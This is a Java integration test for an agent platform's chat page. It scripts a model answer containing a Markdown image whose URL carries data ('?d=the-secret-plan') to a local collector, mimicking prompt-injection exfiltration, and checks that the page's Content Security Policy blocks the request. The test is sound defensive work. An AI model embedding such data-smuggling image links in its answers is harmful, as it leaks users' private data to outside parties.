package io.protohive.app.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.sun.net.httpserver.HttpServer;
import java.net.InetSocketAddress;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.By;

/**
 * An agent's answer is untrusted text: a prompt injection can make it carry a Markdown image whose
 * address smuggles data out the moment a browser shows it. The page's security policy lets nothing
 * load from elsewhere, so the collector never hears from the browser.
 */
@ExtendWith(ArquillianExtension.class)
class AgentOutputBrowserIT {

  private static final String SCRIPTED = "io.protohive.plugins.llm-scripted";

  private final List<String> collected = new CopyOnWriteArrayList<>();
  private HttpServer collector;
  private Browser browser;

  @Deployment(testable = false)
  static WebArchive deployment() {
    return Platform.war();
  }

  @BeforeEach
  void start() throws Exception {
    collector = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
    collector.createContext(
        "/",
        exchange -> {
          collected.add(exchange.getRequestURI().toString());
          exchange.sendResponseHeaders(204, -1);
          exchange.close();
        });
    collector.start();
    browser = new Browser();
  }

  @AfterEach
  void stop() {
    browser.close();
    collector.stop(0);
  }

  @Test
  void aRemoteImageInAnAnswerIsNeverFetched() throws Exception {
    String leak =
        "http://127.0.0.1:" + collector.getAddress().getPort() + "/leak.png?d=the-secret-plan";
    PluginsApi.TenantAdmin admin = PluginsApi.newTenantAdminAccount("output");
    String plan = "say: Here is the chart ![chart](" + leak + ") as promised.";
    assertThat(
            PluginsApi.configure(
                    SCRIPTED,
                    "{\"enabled\":true,\"config\":{\"plan\":\"" + plan + "\"}}",
                    admin.bearer())
                .statusCode())
        .isEqualTo(200);
    assertThat(
            Platform.send(
                    "PUT",
                    "api/v1/tenant/llm-route",
                    "{\"steps\":[{\"providerId\":\"scripted\",\"model\":\"scripted-1\"}]}",
                    admin.bearer())
                .statusCode())
        .isEqualTo(200);
    HttpResponse<String> created =
        Platform.post(
            "api/v1/organizations",
            "{\"name\":\"Leaky\",\"template\":\"software-startup\"}",
            admin.bearer());
    String organization = Platform.json(created).get("id").asText();

    browser.signIn(admin.email(), Accounts.PASSWORD);
    browser.open("organizations/" + organization);
    browser.chatWith("Linus");
    browser.type("chat-input", "Show me the chart");
    browser.click(By.id("chat-send"));
    await()
        .atMost(Browser.RENDER)
        .until(
            () ->
                browser.driver.findElements(By.cssSelector("#messages vaadin-markdown")).stream()
                    .anyMatch(answer -> answer.getText().contains("as promised")));

    List<String> errors = new ArrayList<>();
    await()
        .atMost(Browser.RENDER)
        .alias("the browser tried the image and refused it for the page's policy")
        .until(
            () -> {
              errors.addAll(browser.consoleErrors());
              return errors.stream().anyMatch(e -> e.contains("Content Security Policy"));
            });
    assertThat(collected).as("requests that reached the collector").isEmpty();
  }
}
